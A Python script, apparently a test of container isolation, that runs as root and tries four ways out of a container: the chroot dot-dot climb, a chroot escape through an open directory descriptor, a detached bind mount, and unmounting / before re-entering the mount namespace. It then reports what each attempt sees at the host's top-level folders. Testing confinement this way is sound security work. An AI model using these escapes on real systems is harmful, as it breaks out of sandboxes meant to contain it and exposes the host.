"""Run as root inside a container whose host has a ramfs for a root: tries to get out, and prints what it found.

See chroot(2), "In particular, the superuser can escape from a chroot jail", and the comment on rootfs in do_umount() of
the kernel's fs/namespace.c.
"""

import ctypes
import json
import os
from collections.abc import Callable

CLONE_NEWNS = 0x00020000
MNT_DETACH = 2
MS_BIND, MS_REC, MS_PRIVATE = 1 << 12, 1 << 14, 1 << 18
libc = ctypes.CDLL(None, use_errno=True)


def main() -> None:
    """Print what each way out has shown at /, as JSON."""
    ways = {"dots": by_dots, "descriptor": by_descriptor, "mounts": by_mounts, "namespace": by_namespace}
    print(json.dumps({name: in_child(way) for name, way in ways.items()}))


def by_dots() -> None:
    """The classic: a working folder above a new and deeper root is held back by nothing on the way up."""
    os.makedirs("/tmp/jail/deep", exist_ok=True)
    os.chdir("/tmp")
    os.chroot("/tmp/jail/deep")
    climb()


def by_descriptor() -> None:
    """The same by an open folder."""
    above = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    climb()


def by_mounts() -> None:
    """Climb up after a new mount of the root was put into it and taken away."""
    take_own_mounts()
    os.makedirs("/tmp/jail", exist_ok=True)
    check(libc.mount(b"/", b"/tmp/jail", None, ctypes.c_ulong(MS_BIND), None))
    os.chdir("/")
    os.chroot("/tmp/jail")
    check(libc.umount2(b".", MNT_DETACH))
    climb()


def by_namespace() -> None:
    """Take the root away and enter the mount namespace anew: the kernel then starts at its lowest root."""
    take_own_mounts()
    entrance = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    check(libc.umount2(b"/", MNT_DETACH))
    check(libc.setns(entrance, CLONE_NEWNS))


def take_own_mounts() -> None:
    """Leave the container's mounts as they are: work on a copy."""
    check(libc.unshare(CLONE_NEWNS))
    check(libc.mount(None, b"/", None, ctypes.c_ulong(MS_PRIVATE | MS_REC), None))


def climb() -> None:
    """Go up as far as it goes, and make that the root."""
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def check(result: int) -> None:
    """Raise OSError for a failed call."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def in_child(way: Callable[[], None]) -> dict[str, object]:
    """Return what is at / after `way` in a child, and what error ended it."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        error = None
        try:
            way()
        except OSError as failed:
            error = str(failed)
        seen = {folder: sorted(os.listdir(folder)) for folder in ("/", "/mnt", "/run", "/proc")}
        os.write(writer, json.dumps({"error": error, "seen": seen}).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as file:
        found: dict[str, object] = json.load(file)
    os.wait()
    return found


if __name__ == "__main__":
    main()
